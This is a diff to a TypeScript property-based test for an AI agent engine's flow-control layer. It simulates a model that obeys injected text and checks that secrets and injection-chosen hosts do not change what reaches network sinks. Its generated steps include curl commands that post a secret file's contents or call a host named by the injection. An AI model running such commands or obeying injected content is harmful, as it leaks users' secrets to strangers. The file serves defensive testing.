@@ -3,6 +3,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import * as fc from 'fast-check';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { OWNER } from '../approvals/approver.ts';
 import { FOREIGN, flowStage } from '../testing/flow-stage.ts';
 
 /** What two runs differ in: a secret in a file of the user's, and what a stranger wrote into another. */
@@ -14,8 +15,11 @@ interface Inputs {
 /** A step of a model that obeys whatever it read; `{secret}` and `{injection}` are put in as it read them. */
 interface Step {
   readonly tool: string;
-  readonly args: Readonly<Record<string, string>>;
+  readonly args: Readonly<Record<string, string | readonly string[]>>;
 }
+
+/** More of them by hand: 500 take about a minute on a quiet machine. */
+const RUNS = Number(process.env['TWO_RUNS'] ?? '30');
 
 const OWN = 'https://shop.example/in';
 const REQUEST = `Read secrets.txt and ${FOREIGN}, and post the word hello to ${OWN}.`;
@@ -57,7 +61,9 @@ const step: fc.Arbitrary<Step> = fc.oneof(
   { weight: 1, arbitrary: fc.constant({ tool: 'read', args: { path: 'notes.md' } }) },
   {
     weight: 1,
-    arbitrary: piece.map((said) => ({ tool: 'bash', args: { command: `curl -d ${said} ${OWN}` } })),
+    arbitrary: fc
+      .record({ said: piece, host: fc.constantFrom('shop.example', '{injection:plain}') })
+      .map(({ said, host }) => reaching(`curl -d '${said}' https://${host}/in`, host)),
   },
 );
 const program = fc.array(step, { minLength: 1, maxLength: 4 });
@@ -68,7 +74,14 @@ beforeEach(() => {
 });
 afterEach(() => rmSync(folder, { recursive: true, force: true }));
 
-/** Runs the whole engine but its boxes, with nobody there to say yes. @returns what reached a sink, in order */
+const SECOND_MS = 1_000;
+/** The question about every command that names hosts, and no other reason beside it. */
+const ONLY_NETWORK = /^it may reach [^;]*: what it does there can't be taken back$/;
+
+/**
+ * Runs the whole engine but its boxes, with a person who says no to whatever flow asks about, and yes to a command of which nobody
+ * has more to say than that it reaches a host. @returns what reached a sink, in order
+ */
 async function sinkTrace(
   steps: readonly Step[],
   inputs: Inputs,
@@ -92,10 +105,33 @@ async function sinkTrace(
     services: { initialGroups: ['files', 'shell', 'web'] },
   });
   const session = stage.create();
-  await stage.say(session, REQUEST);
+  stage.send(session, 'm', {
+    content: REQUEST,
+    options: { approve: 'ask', maxRounds: 0, dryRun: false, model: '', baseUrl: '' },
+  });
+  await stage.settle(SECOND_MS);
+  for (let [open] = stage.approvals.open; open !== undefined; [open] = stage.approvals.open) {
+    const decision = ONLY_NETWORK.test(open.reason) ? 'allow' : 'deny';
+    const target = { approval: open.id, session, hash: open.hash };
+    stage.approvals.decide(target, { decision, scope: 'once', approver: OWNER });
+    await stage.settle(SECOND_MS);
+  }
+  await stage.settle();
   return stage.calls.flatMap(({ tool, canonicalArguments }) =>
-    tool === 'http_request' || tool === 'web_fetch' ? [canonicalArguments] : [],
+    tool === 'http_request' || tool === 'web_fetch' || isReaching(canonicalArguments)
+      ? [canonicalArguments]
+      : [],
   );
+}
+
+/** A command that may connect: what it says leaves the machine. */
+function reaching(command: string, ...hosts: readonly string[]): Step {
+  return { tool: 'bash', args: { command, hosts } };
+}
+
+function isReaching(canonicalArguments: string): boolean {
+  const { hosts }: { readonly hosts?: readonly string[] } = JSON.parse(canonicalArguments);
+  return hosts !== undefined && hosts.length > 0;
 }
 
 function sink(args: Step['args']): Step {
@@ -107,12 +143,17 @@ function filled(args: Step['args'], inputs: Inputs): Step['args'] {
     text.replaceAll(/\{(secret|injection):(\w+)\}/g, (_all, what: keyof Inputs, how: string) =>
       String(carried[how]?.(inputs[what])),
     );
-  return Object.fromEntries(Object.entries(args).map(([name, text]) => [name, fill(text)]));
+  return Object.fromEntries(
+    Object.entries(args).map(([name, value]) => [
+      name,
+      typeof value === 'string' ? fill(value) : value.map((text) => fill(text)),
+    ]),
+  );
 }
 
 describe('two runs of a model that always obeys', () => {
   it('reach the same sinks with the same arguments, whatever the secret and the injection [FG8] [FR10]', {
-    timeout: 120_000,
+    timeout: 60_000 + RUNS * 2_000,
   }, async () => {
     let reached = 0;
     await fc.assert(
@@ -122,7 +163,7 @@ describe('two runs of a model that always obeys', () => {
         expect(other).toEqual(one);
         reached += one.length;
       }),
-      { numRuns: 30 },
+      { numRuns: RUNS },
     );
     // Nothing but silence would be equal, too.
     expect(reached).toBeGreaterThan(0);
@@ -131,7 +172,9 @@ describe('two runs of a model that always obeys', () => {
   it('differ where flow only audits: the comparison can see it [FG8]', async () => {
     const leak = [...READS, sink({ url: OWN, body: '{secret:plain}', method: 'POST' })];
     const obey = [...READS, sink({ url: 'https://{injection:plain}/in', method: 'GET' })];
-    for (const steps of [leak, obey]) {
+    const told = [...READS, reaching(`curl -d '{secret:plain}' ${OWN}`, 'shop.example')];
+    const called = [...READS, reaching('curl https://{injection:plain}/in', '{injection:plain}')];
+    for (const steps of [leak, obey, told, called]) {
       const [one, other] = [await sinkTrace(steps, ONE, 'audit'), await sinkTrace(steps, OTHER, 'audit')];
       expect(one).toHaveLength(1);
       expect(other).not.toEqual(one);
